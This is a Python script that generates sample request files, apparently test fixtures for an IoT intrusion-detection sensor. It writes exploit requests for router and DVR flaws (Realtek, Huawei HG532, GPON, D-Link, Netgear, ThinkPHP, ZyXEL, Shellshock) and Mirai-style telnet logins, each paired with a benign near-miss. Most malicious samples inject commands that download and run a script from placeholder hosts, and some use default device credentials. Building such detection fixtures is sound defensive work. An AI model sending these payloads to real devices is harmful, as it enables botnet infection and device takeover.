"""Write the sample client streams in this folder (``python make_requests.py``; ``--check``).

Every sample is built here from the request traits in ``../shared/FIELD-NOTES.md``
§4 (ET Open / Snort rule contents and public PoC shapes) and the NPA
2017-12-19 masked sample; none was captured. Sensor addresses are
203.0.113.0/24, downloader hosts 198.51.100.0/24 or ``.example`` names.
The tests hold what each sample must and must not match.
"""

from __future__ import annotations

import sys
from pathlib import Path

HERE = Path(__file__).parent
SOAP_NS = "http://schemas.xmlsoap.org/soap/envelope/"
WANIP = "urn:schemas-upnp-org:service:WANIPConnection:1"


def http(method: str, target: str, headers: list[tuple[str, str]], body: str = "",
         version: str = "HTTP/1.1") -> bytes:  # fmt: skip
    """A request with Content-Length filled in when there is a body."""
    data = body.encode()
    if body:
        headers = [*headers, ("Content-Length", str(len(data)))]
    head = "".join(f"{k}: {v}\r\n" for k, v in headers)
    return f"{method} {target} {version}\r\n{head}\r\n".encode() + data


def envelope(call: str) -> str:
    return (f'<?xml version="1.0" ?><s:Envelope xmlns:s="{SOAP_NS}" '
            f's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>{call}'
            "</s:Body></s:Envelope>")  # fmt: skip


def add_port_mapping(prefix: str, client: str, desc: str = "syncthing") -> str:
    open_tag = f"<{prefix}:AddPortMapping xmlns:{prefix}=\"{WANIP}\">" if prefix else (
        f'<AddPortMapping xmlns="{WANIP}">')  # fmt: skip
    close_tag = f"</{prefix}:AddPortMapping>" if prefix else "</AddPortMapping>"
    return (f"{open_tag}<NewRemoteHost></NewRemoteHost><NewExternalPort>47450"
            "</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382"
            f"</NewInternalPort><NewInternalClient>{client}</NewInternalClient><NewEnabled>1"
            f"</NewEnabled><NewPortMappingDescription>{desc}</NewPortMappingDescription>"
            f"<NewLeaseDuration>0</NewLeaseDuration>{close_tag}")  # fmt: skip


def soap(path: str, action: str, body: str, *, ua: str = "", quoted: bool = False) -> bytes:
    headers = [("Host", "203.0.113.5:52869")]
    if ua:
        headers.append(("User-Agent", ua))
    headers.append(("SOAPAction", f'"{action}"' if quoted else action))
    return http("POST", path, headers, body)


def form(path: str, body: str, *, ua: str = "Mozilla/5.0",
         extra: list[tuple[str, str]] | None = None) -> bytes:  # fmt: skip
    headers = [("Host", "203.0.113.8"), ("User-Agent", ua),
               ("Content-Type", "application/x-www-form-urlencoded"), *(extra or [])]  # fmt: skip
    return http("POST", path, headers, body)


def get(target: str, ua: str = "Mozilla/5.0", host: str = "203.0.113.8",
        version: str = "HTTP/1.1") -> bytes:  # fmt: skip
    return http("GET", target, [("Host", host), ("User-Agent", ua), ("Accept", "*/*")],
                version=version)  # fmt: skip


IAC_CLIENT = bytes.fromhex("fffc01fffb1ffffa1f00500018fff0fffd01fffd03")
IAC_SERVER = bytes.fromhex("fffd01fffd1ffffb01fffb03")
SEED_CMD = "cd /tmp/;/bin/busybox wget http://198.51.100.23/okiru.sh;chmod 777 okiru.sh;sh okiru.sh"
ACTION = f"{WANIP}#AddPortMapping"


def samples() -> dict[str, bytes]:
    """File name → bytes of every sample."""
    return {
        # --- CVE-2014-8361 Realtek miniigd, as in the NPA sample and the Metasploit module
        "realtek-seed.http": http("POST", "/picdesc.xml", [
            ("Host", "203.0.113.5:52869"), ("Connection", "keep-alive"),
            ("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*"),
            ("User-Agent", "python-requests/2.18.4"), ("SOAPAction", ACTION),
        ], envelope(add_port_mapping("u", f"`{SEED_CMD}`"))),
        "realtek-wanipcn-m.http": soap(
            "/wanipcn.xml?service=WANIPConn1", ACTION, quoted=True,
            body=envelope(add_port_mapping(
                "m", "$(cd /tmp;tftp -g -r okiru.mips 198.51.100.41;sh okiru.mips)"))),
        "realtek-picsdesc-desc-arg.http": soap(
            "/picsdesc.xml", ACTION, body=envelope(add_port_mapping(
                "", "192.168.0.9",
                desc="x&amp;&amp;cd /tmp&amp;&amp;wget http://dl.satori.example/bins.sh"))),
        "realtek-broken-xml.http": soap(
            "/picdesc.xml", ACTION, body="<s:Envelope><s:Body><u:AddPortMapping>"
            "<NewInternalClient>`cd /tmp;wget http://198.51.100.42/r.sh`</NewInternalClient>"
            "</u:AddPortMapping>"),
        "upnp-benign.http": soap(
            "/upnp/control/WANIPConn1", ACTION, quoted=True, ua="Microsoft-Windows/10.0 UPnP/1.0",
            body=envelope(add_port_mapping("u", "192.168.1.23", desc="game-server (TCP)"))),
        "realtek-no-injection.http": soap(
            "/picdesc.xml", ACTION, body=envelope(add_port_mapping("u", "10.0.0.23"))),
        "upnp-public-client.http": soap(
            "/upnp/control/WANIPConn1", ACTION,
            body=envelope(add_port_mapping("u", "198.51.100.50"))),
        # --- CVE-2017-17215 Huawei HG532
        "huawei-hg532.http": http("POST", "/ctrlt/DeviceUpgrade_1", [
            ("Host", "203.0.113.6:37215"), ("Connection", "keep-alive"), ("Accept", "*/*"),
            ("Authorization", 'Digest username="dslf-config", realm="HuaweiHomeGateway", '
             'nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", '
             'response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", '
             'nc=00000001, cnonce="248d1a2560100669"'),
        ], envelope('<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">'
                    "<NewStatusURL>$(/bin/busybox wget -g 198.51.100.62 -l /tmp/.hw -r /okiru.mips;"
                    " chmod 777 /tmp/.hw; /tmp/.hw huawei.rep)</NewStatusURL>"
                    "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade>")),
        "huawei-plain-upgrade.http": http("POST", "/ctrlt/DeviceUpgrade_1", [
            ("Host", "203.0.113.6:37215")],
            envelope('<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">'
                     "<NewStatusURL>http://fw.example/status</NewStatusURL>"
                     "<NewDownloadURL>http://fw.example/fw.bin</NewDownloadURL></u:Upgrade>")),
        # --- GPON CVE-2018-10561/10562
        "gpon-diag.http": form(
            "/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0"
            "&dest_host=%60busybox+wget+http%3A%2F%2F198.51.100.44%2Fgpon+-O+%2Ftmp%2Fgaf%3Bsh+"
            "%2Ftmp%2Fgaf%60&ipv=0", ua="Hello, World"),
        "gpon-diag-no-bypass.http": form(
            "/GponForm/diag_Form", "XWebPageName=diag&diag_action=ping&wan_conlist=0"
            "&dest_host=192.0.2.1&ipv=0"),
        "hello-world-get.http": get("/", ua="Hello, World"),
        # --- D-Link HNAP CVE-2015-2051
        "dlink-hnap.http": http("POST", "/HNAP1/", [
            ("Host", "203.0.113.8:8080"), ("User-Agent", "Mozila/5.0"),
            ("SOAPAction", '"http://purenetworks.com/HNAP1/GetDeviceSettings/`cd && cd tmp && '
             "export PATH=$PATH:. && cd /tmp;wget http://198.51.100.45/d.mips;chmod 777 d.mips;"
             './d.mips dlink`"'),
        ], "<x/>"),
        "dlink-hnap-plain.http": http("POST", "/HNAP1/", [
            ("Host", "203.0.113.8"),
            ("SOAPAction", '"http://purenetworks.com/HNAP1/GetDeviceSettings"')], "<x/>"),
        # --- JAWS / MVPower DVR
        "jaws-shell.http": get(
            "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.46:8080/jaws;sh+/tmp/jaws", ua=""),
        "jaws-shell-php.http": get("/shell.php?page=1"),
        # --- Linksys TheMoon
        "linksys-tmunblock.http": form(
            "/tmUnblock.cgi", "submit_button=&change_action=&action=&commit=0&%74%74%63%70%5f%69"
            "%70=-h+%60cd+%2Ftmp%3B+rm+-f+nmlt1.sh%3B+wget+-O+nmlt1.sh+"
            "http%3A%2F%2F198.51.100.47%3A193%2Fnmlt1.sh%3B+chmod+%2Bx+nmlt1.sh%3B+.%2Fnmlt1.sh%60"
            "&StartEPI=1"),
        "linksys-tmunblock-plain.http": form("/tmUnblock.cgi", "ttcp_ip=10.0.0.2&StartEPI=1"),
        "linksys-hnap-probe.http": get("/HNAP1/", host="203.0.113.9"),
        "hnap-probe-hostname.http": get("/HNAP1/", host="router.example"),
        # --- Netgear
        "netgear-setup.http": get(
            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+"
            "http://198.51.100.48:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/"
            "&currentsetting.htm=1", ua=""),
        "netgear-setup-plain.http": get("/setup.cgi?next_file=index.htm&todo=view"),
        "netgear-dgn2200-ping.http": form(
            "/ping.cgi", "IPAddr1=192&IPAddr2=0&IPAddr3=2&IPAddr4=1&ping=Ping&ping_IPAddr="
            "192.0.2.1;wget http://198.51.100.49/ng.sh -O /tmp/ng.sh;sh /tmp/ng.sh",
            extra=[("Referer", "http://203.0.113.8/DIAG_diag.htm")]),
        "netgear-ping-plain.http": form("/ping.cgi", "ping=Ping&ping_IPAddr=192.0.2.1"),
        # --- ThinkPHP CVE-2018-20062
        "thinkphp-invokefunction.http": get(
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
            "&vars[0]=shell_exec&vars[1][]=%27wget%20http://198.51.100.51/tp.sh%20-O%20/tmp/tp.sh"
            "%20;%20sh%20/tmp/tp.sh%27"),
        "thinkphp-route.http": get("/index.php?s=/index/index/hello&name=world"),
        "thinkphp-construct.http": form(
            "/index.php?s=captcha", "_method=__construct&filter[]=system&method=get"
            "&server[REQUEST_METHOD]=wget%20http%3A%2F%2F198.51.100.52%2Ftc.sh%20-O%20%2Ftmp%2Ftc"),
        "thinkphp-method-put.http": form("/index.php", "_method=PUT&filter[]=trim&name=x"),
        # --- Eir D1000 TR-064 (7547)
        "eir-d1000.http": soap(
            "/UD/act?1", "urn:dslforum-org:service:Time:1#SetNTPServers",
            body=envelope('<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1">'
                          "<NewNTPServer1>`cd /tmp;tftp -l 7 -r 7 -g 198.51.100.53;chmod 777 7;./7`"
                          "</NewNTPServer1><NewNTPServer2></NewNTPServer2><NewNTPServer3>"
                          "</NewNTPServer3><NewNTPServer4></NewNTPServer4><NewNTPServer5>"
                          "</NewNTPServer5></u:SetNTPServers>")),
        "eir-ntp-plain.http": soap(
            "/UD/act?1", "urn:dslforum-org:service:Time:1#SetNTPServers",
            body=envelope('<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1">'
                          "<NewNTPServer1>pool.ntp.example</NewNTPServer1></u:SetNTPServers>")),
        # --- ZyXEL P660HN CVE-2017-18368
        "zyxel-viewlog.http": form(
            "/cgi-bin/ViewLog.asp", "remote_submit_Flag=1&remote_syslog_Flag=1"
            "&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+/tmp;wget+"
            "http://198.51.100.54/zx;sh+zx%3b%23&remoteSubmit=Save"),
        "zyxel-viewlog-plain.http": form(
            "/cgi-bin/ViewLog.asp", "remote_submit_Flag=1&remote_host=192.0.2.1&remoteSubmit=Save"),
        # --- Mirai family and scanners
        "mirai-user-agent.http": get("/", ua="Hakai/2.0"),
        "browser.http": get("/", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/115.0"),
        "zgrab.http": get("/", ua="Mozilla/5.0 zgrab/0.x"),
        "masscan.http": get(
            "/", ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            version="HTTP/1.0"),
        "telnet-mirai.bin": IAC_CLIENT + b"root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n"
        b"/bin/busybox ECCHI\r\n",
        "telnet-mirai.server.bin": IAC_SERVER + b"\r\nlogin: Password: \r\n# \r\n# \r\n# \r\n# "
        b"\r\nECCHI: applet not found\r\n# ",
        "telnet-admin.bin": IAC_CLIENT + b"admin\r\nadmin\r\nls /tmp\r\n/bin/busybox ps\r\n",
        # --- Mirai echo loader and Shellshock
        "telnet-echo-loader.bin": IAC_CLIENT + b"root\r\nvizxv\r\nenable\r\nshell\r\nsh\r\n"
        b"/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > .s\r\n"
        b"/bin/busybox echo -ne '\\x02\\x00\\x28\\x00' >> .s\r\n./.s; rm .s\r\n",
        "telnet-echo-text.bin": IAC_CLIENT + b"admin\r\nadmin\r\n"
        b"echo -ne '\\x41\\x42\\x43' > note\r\necho 7f454c46 > magic\r\n",
        "telnet-shellshock.bin": IAC_CLIENT + b"root\r\nroot\r\n"
        b"env x='() { :;}; echo vulnerable' bash -c 'echo test'\r\n",
        "telnet-shell-function.bin": IAC_CLIENT + b"root\r\nroot\r\n"
        b"f() { uname -a; }; f\r\n",
        "shellshock-user-agent.http": get(
            "/cgi-bin/status", ua="() { :; }; /bin/bash -c 'wget http://198.51.100.7/x.sh'"),
        "shellshock-near-miss.http": form(
            "/cgi-bin/app.cgi", "code=function%20f()%20{%20return%201;%20};",
            ua="Mozilla/5.0 (X11; Linux x86_64) { }"),
        # --- transport shapes
        "pipelined-chunked.http": get("/HNAP1/", host="203.0.113.9") + (
            b"POST /ping.cgi HTTP/1.1\r\nHost: 203.0.113.8\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"14\r\nping_IPAddr=1;wget h\r\n19\r\nttp://198.51.100.55/c.sh\r\n0\r\n\r\n"),
    }  # fmt: skip


def main(argv: list[str]) -> int:
    stale = []
    for name, data in samples().items():
        path = HERE / name
        if "--check" in argv:
            if not path.exists() or path.read_bytes() != data:
                stale.append(name)
        else:
            path.write_bytes(data)
    if stale:
        print("stale samples: " + ", ".join(stale))
    return 1 if stale else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
